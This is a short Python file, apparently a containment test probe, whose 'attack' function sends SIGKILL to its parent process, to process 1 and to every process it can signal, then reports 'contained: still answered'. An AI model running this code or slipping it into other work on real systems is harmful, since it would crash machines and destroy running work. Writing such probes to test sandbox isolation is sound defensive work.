"""Kills its parent, the first process, everything that it can name."""

import os
import signal
import time


def attack(world: dict[str, str]) -> str:
    for target in (os.getppid(), 1, -1):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            continue
    time.sleep(0.2)
    return "contained: still answered"
